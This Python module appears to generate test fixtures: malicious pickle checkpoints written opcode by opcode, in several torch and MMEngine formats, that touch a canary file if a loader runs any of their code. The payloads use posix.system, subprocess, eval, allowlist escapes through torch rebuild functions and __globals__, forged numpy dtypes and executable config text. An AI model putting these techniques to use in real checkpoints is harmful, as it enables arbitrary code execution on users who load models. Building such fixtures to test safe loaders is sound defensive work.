"""Files that would touch a canary if anything in them were executed, as pickle programs written operation by operation.

Each program is saved as a zip archive, as a stream of the old format, and as a bare pickle.
"""

import io
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch

MAGIC = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
HEAD = (
    MAGIC
    + pickle.dumps(1001, 2)
    + pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {}}, 2)
)


def name(path: str) -> bytes:
    module, _, attribute = path.rpartition(".")
    return f"c{module}\n{attribute}\n".encode()


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def tuple_of(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + tuple_of(*arguments) + b"R"


def attribute(of: bytes, which: str) -> bytes:
    return call(name("builtins.getattr"), of, text(which))


def rebuilt(function: bytes, kind: bytes, *arguments: bytes) -> bytes:
    """torch's own list has a function that calls whatever it is given."""
    return call(
        name("torch._tensor._rebuild_from_type_v2"), function, kind, tuple_of(*arguments), b"}"
    )


def code(canary: Path) -> str:
    return f"__import__('pathlib').Path({str(canary)!r}).touch() or 0"


def through_globals(start: str) -> Callable[[Path], bytes]:
    """From a harmless function to its module's builtins, by ``getattr``, as MMEngine's list allows it."""

    def program(canary: Path) -> bytes:
        builtins = rebuilt(
            attribute(attribute(name(start), "__globals__"), "get"),
            attribute(b"}", "__class__"),
            text("__builtins__"),
        )
        evaluate = rebuilt(
            attribute(builtins, "get"),
            attribute(name("builtins.getattr"), "__class__"),
            text("eval"),
        )
        return rebuilt(evaluate, attribute(b"K\0", "__class__"), text(code(canary)))

    return program


def touch(canary: Path) -> bytes:
    return text(f"touch {canary}")


def shell(canary: Path) -> bytes:
    return call(name("posix.system"), touch(canary))


BUFFER = "mmengine.logging.history_buffer.HistoryBuffer"
DTYPE_O = call(name("numpy.dtype"), text("O8"), b"\x89", b"\x88")
BYTES = call(name("_codecs.encode"), text("b"), text("latin1"))
EMPTY = call(name("numpy.core.multiarray._reconstruct"), name("numpy.ndarray"), b"K\0\x85", BYTES)
STATE = tuple_of(b"K\x03", text("|"), b"NNN", b"J\xff\xff\xff\xffJ\xff\xff\xff\xffK\x3f")
RECORDS = call(name("numpy.dtype"), text("V8"), b"\x89", b"\x88")
FIELDS = b"}(" + text("a") + tuple_of(DTYPE_O, b"K\0") + b"u"
FAKE = tuple_of(b"K\x03", text("|"), b"N", tuple_of(text("a")), FIELDS, b"K\x08K\x01K\0")

PROGRAMS: dict[str, Callable[[Path], bytes]] = {
    "os.system": shell,
    "os.popen": lambda c: call(name("os.popen"), touch(c)),
    "subprocess": lambda c: call(
        name("subprocess.Popen"), b"(" + text("touch") + text(str(c)) + b"l"
    ),
    "eval": lambda c: call(name("builtins.eval"), text(code(c))),
    "exec": lambda c: call(name("builtins.exec"), text(code(c))),
    "open": lambda c: call(name("io.open"), text(str(c)), text("w")),
    "import": lambda c: call(name("builtins.__import__"), text("os")),
    "path method": lambda c: call(
        name("pathlib.Path.touch"), call(name("pathlib.PosixPath"), text(str(c)))
    ),
    "dotted name": lambda c: b"cbuiltins\ngetattr.__self__.eval\n" + tuple_of(text(code(c))) + b"R",
    "globals of a rebuild": through_globals("torch._utils._rebuild_tensor_v2"),
    "globals of a buffer": lambda c: attribute(attribute(name(BUFFER), "__init__"), "__globals__"),
    "rebuild calls": lambda c: rebuilt(name("posix.system"), b"N", touch(c)),
    "rebuild calls a class": lambda c: rebuilt(name("subprocess.Popen"), b"N", touch(c)),
    "statistics": lambda c: call(
        attribute(name(BUFFER), "register_statistics"), name("builtins.eval")
    ),
    "buffer's methods": lambda c: (
        name(BUFFER)
        + b")\x81}("
        + text("statistics_methods")
        + b"}("
        + text("mean")
        + name("posix.system")
        + b"uub"
    ),
    "object array": lambda c: (
        EMPTY + tuple_of(b"K\x01", b"K\x01\x85", DTYPE_O, b"\x89", b"](" + shell(c) + b"e") + b"b"
    ),
    "object scalar": lambda c: call(name("numpy.core.multiarray.scalar"), DTYPE_O, shell(c)),
    "forged dtype": lambda c: (
        call(name("numpy.core.multiarray.scalar"), RECORDS + FAKE + b"b", BYTES) + shell(c)
    ),
    "odd codec": lambda c: call(name("_codecs.encode"), text("x"), text("../" + str(c))) + shell(c),
    "runpy": lambda c: call(name("runpy.run_path"), text(str(c) + ".py")) + shell(c),
    "importlib": lambda c: call(name("importlib.import_module"), text("antigravity")) + shell(c),
    "torch.hub": lambda c: call(name("torch.hub.load"), text("a/b"), text("c")) + shell(c),
    "nested load": lambda c: call(
        name("torch.storage._load_from_bytes"),
        call(
            name("_codecs.encode"),
            text((b"\x80\x02" + shell(c) + b".").decode("latin1")),
            text("latin1"),
        ),
    ),
    "torch.jit": lambda c: call(name("torch.jit.load"), text(str(c))) + shell(c),
    "reconstructor": lambda c: (
        call(name("copyreg._reconstructor"), name("subprocess.Popen")) + shell(c)
    ),
    "extension": lambda c: b"\x82\x01" + shell(c),
    "INST": lambda c: b"(" + touch(c) + b"iposix\nsystem\n",
    "OBJ": lambda c: b"(" + name("posix.system") + touch(c) + b"o",
    "STACK_GLOBAL": lambda c: text("posix") + text("system") + b"\x93" + touch(c) + b"\x85R",
    "NEWOBJ_EX": lambda c: (
        name("subprocess.Popen") + b"(" + text("touch") + text(str(c)) + b"l\x85}\x92"
    ),
    "persistent module": lambda c: (
        tuple_of(text("module"), name("posix.system"), text("a"), text("b")) + b"Q" + shell(c)
    ),
    "persistent text": lambda c: b"Pposix.system\n" + shell(c),
    "namespace of dunders": lambda c: (
        name("argparse.Namespace")
        + b")\x81}"
        + text("__class__")
        + name("subprocess.Popen")
        + b"sb"
        + shell(c)
    ),
    "state of a name": lambda c: (
        name("torch._utils._rebuild_tensor_v2")
        + b"N}"
        + text("__call__")
        + name("posix.system")
        + b"s\x86b"
        + shell(c)
    ),
    "partial": lambda c: call(call(name("functools.partial"), name("posix.system"), touch(c))),
    "methodcaller": lambda c: call(
        call(name("operator.methodcaller"), text("touch")),
        call(name("pathlib.PosixPath"), text(str(c))),
    ),
    "config of MMEngine": lambda c: call(
        name("mmengine.config.config.Config.fromstring"), text(code(c)), text(".py")
    ),
    "numpy's runstring": lambda c: call(
        name("numpy.testing._private.utils.runstring"), text(code(c)), b"}"
    ),
    "ordered dict's class": lambda c: (
        call(name("collections.OrderedDict"))
        + b"}"
        + text("__class__")
        + name("subprocess.Popen")
        + b"sb"
        + shell(c)
    ),
    "set of a table": lambda c: (
        attribute(name("torch.serialization._get_layout"), "cache")
        + text("x")
        + name("posix.system")
        + b"s"
    ),
}
"""By what they try; those that build up to it end with a plain call, so that they run where the first part passes."""


def state(program: bytes) -> bytes:
    """A checkpoint of everything that is asked for, one value of which is the program's."""
    keys = ("state_dict", "optimizer", "message_hub", "meta", "model", "teacher", "student")
    items = b"".join(text(key) + b"}" for key in keys)
    return b"\x80\x02}(" + items + text("x") + program + b"u."


def write(path: Path, program: bytes, form: str) -> Path:
    """Save a program in one of the three forms."""
    whole = state(program)
    if form == "zip":
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("archive/data.pkl", whole)
            archive.writestr("archive/version", "3\n")
    elif form == "stream":
        path.write_bytes(HEAD + whole + pickle.dumps([], 2))
    else:
        path.write_bytes(whole)
    return path


FORMS = ("zip", "stream", "bare")


def script_archive(path: Path) -> Path:
    """TorchScript, which torch.load would hand to the interpreter of its code."""
    module = torch.jit.script(torch.nn.Linear(2, 2))
    torch.jit.save(module, str(path))
    return path


def tar_archive(path: Path, canary: Path) -> Path:
    """The oldest format, which torch would unpack."""
    with tarfile.open(path, "w") as archive:
        for record in ("sys_info", "pickle", "storages", "tensors"):
            content = b"\x80\x02" + shell(canary) + b"."
            info = tarfile.TarInfo(record)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return path


def code_in_meta(path: Path, canary: Path) -> Path:
    """Plain text alone; MMEngine's resume executes it."""
    meta = {
        "config": f"import pathlib\npathlib.Path({str(canary)!r}).touch()",
        "epoch": 0,
        "iter": 0,
    }
    content = {"meta": meta, "state_dict": {}, "optimizer": {}, "message_hub": {}}
    torch.save(content, path)
    return path
